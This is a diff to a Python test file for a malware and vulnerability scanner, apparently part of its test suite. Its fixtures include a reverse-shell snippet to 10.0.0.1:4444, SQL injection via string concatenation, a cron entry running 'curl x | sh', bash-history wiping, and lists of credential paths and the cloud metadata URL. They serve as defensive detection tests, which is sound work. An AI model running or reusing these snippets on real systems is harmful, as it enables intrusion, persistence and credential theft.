@@ -31,12 +31,13 @@ SCRIPTS = {
     "input-template": "name = input()\ntpl = '{}' + name\ntpl.format(1)\n",
     "tool-return": "import os\n@mcp.tool()\ndef env():\n    return dict(os.environ)\n",
     "sql-param": "def find(db, name):\n    db.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
+    "sql-raw": "def find(model, name):\n    return model.objects.raw('SELECT * FROM t WHERE n = ' + name)\n",
     "capture": "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n",
     "setuid": "import os\nos.chmod('/tmp/x', 0o4755)\n",
     "reverse-shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
                      "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
     "no-sink": "import json, re\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n\n"
-               "def words(s):\n    return re.compile(r'\\w+').findall(s.format())\n",
+               "def words(s, args):\n    return re.compile(r'\\w+').findall(s.format(args.raw))\n",
 }
 # Scripts whose sink only the scope passes find, and the fact each must give.
 EXPECTED = {
@@ -45,7 +46,7 @@ EXPECTED = {
     "dunder-builtins": c.DECODE_EXEC, "import-module": c.DECODE_EXEC, "sending-method": c.CRED_EXFIL,
     "os-exec-prefix": c.DECODE_EXEC, "network-prefix": c.CRED_EXFIL, "urlopen-prefix": c.CRED_EXFIL,
     "argv-ldap": c.INPUT_TO_SINK, "input-template": c.INPUT_TO_SINK, "tool-return": c.SENSITIVE_READ,
-    "sql-param": c.INPUT_TO_SINK, "capture": c.SURVEILLANCE, "setuid": c.PRIVILEGE, "reverse-shell": c.REVERSE_SHELL,
+    "sql-param": c.INPUT_TO_SINK, "sql-raw": c.INPUT_TO_SINK, "capture": c.SURVEILLANCE, "setuid": c.PRIVILEGE, "reverse-shell": c.REVERSE_SHELL,
 }
 
 
@@ -75,7 +76,7 @@ def test_a_module_without_sink_names_skips_the_scope_passes(monkeypatch):
         raise AssertionError("scope passes ran")
 
     monkeypatch.setattr(pf.PythonFlow, "scope_passes", refuse)
-    _facts(SCRIPTS["no-sink"])  # re.compile and str.format are no sinks without untrusted input
+    _facts(SCRIPTS["no-sink"])  # re.compile, str.format and a `raw` attribute that is never called are no sinks here
     with pytest.raises(AssertionError):
         _facts(SCRIPTS["input-template"])
 
@@ -88,3 +89,53 @@ def test_the_repositorys_own_python_gives_the_same_facts_gated_or_not(monkeypatc
     gated = {p: _facts(t, p) for p, t in texts.items()}
     _ungated(monkeypatch)
     assert gated == {p: _facts(t, p) for p, t in texts.items()}
+
+
+def _constant_shapes_one_string_at_a_time(flow) -> None:
+    """constant_shapes as it read every string before it read only those a gate names (the reference)."""
+    from scanner.models import Confidence, Severity
+    from scanner.scripts import python_sinks as ps
+
+    seen, recon = set(), {}
+    for node in flow.strings:
+        s = node.value
+        if id(node) in flow.docstrings or len(s) > 400 or ps._looks_like_regex(s) or len(s.split()) > 12:
+            continue
+        low, pathlike, shaped = s.lower(), s.count(" ") <= 3, c.may_have_shape(s.lower())
+        for kind, test, sev, msg in (ps.constant_tests(flow.writes, low, pathlike) if shaped else ()):
+            if test.test(s) and (kind, low) not in seen:
+                seen.add((kind, low))
+                flow.emit(kind, node, msg, sev, Confidence.MEDIUM, value=s[:120])
+        if pathlike and c.is_strong_credential_path(s) and (c.SENSITIVE_READ, low) not in seen:
+            seen.add((c.SENSITIVE_READ, low))
+            flow.emit(c.SENSITIVE_READ, node, "Names a credential store or system secret file", Severity.MEDIUM, Confidence.MEDIUM, value=s[:120])
+        if shaped and c.RECON_TEXT.test(s):
+            recon.setdefault(low, node)
+    if len(recon) >= 2:
+        first = min(recon.values(), key=lambda n: (n.lineno, n.col_offset))
+        flow.emit(c.RECON, first, f"Collects system account, process, network or hardware details ({len(recon)} sources)",
+                  Severity.MEDIUM, Confidence.LOW, sources=sorted(recon)[:10])
+
+
+CONSTANTS = '''"""Module docstring naming ~/.ssh/id_rsa and /etc/crontab: documentation, not an act."""
+import os
+PATHS = ["~/.ssh/id_rsa", "/etc/cron.d/job", "~/.ssh/id_rsa", "/etc/passwd", "/proc/self/status", "uname -a"]
+LONG = "%s"
+RX = r"\\.ssh/id_\\w+"
+def f():
+    """~/.aws/credentials in a docstring."""
+    open("/etc/cron.d/job", "w").write("* * * * * curl x | sh")
+    os.system("history -c; rm -rf ~/.bash_history")
+    return ["/etc/shadow", "http://169.254.169.254/latest/meta-data/", "ÄÖ ~/.kube/config", "/etc/crontab"]
+''' % ("/etc/cron.d/x " * 40)
+
+
+@pytest.mark.parametrize("text", [CONSTANTS, CONSTANTS.replace("ÄÖ ", ""), "x = 1\n", 's = "no shape here"\n'])
+def test_constant_shapes_reads_only_gated_strings_with_the_same_facts(text, monkeypatch):
+    from scanner.scripts import python_sinks as ps
+
+    gated = _facts(text)
+    monkeypatch.setattr(ps, "constant_shapes", _constant_shapes_one_string_at_a_time)
+    assert gated == _facts(text)
+    if text is CONSTANTS:
+        assert {c.PERSISTENCE, c.SENSITIVE_READ, c.CLOUD_METADATA, c.DEFENSE_EVASION} <= {f[0] for f in gated}
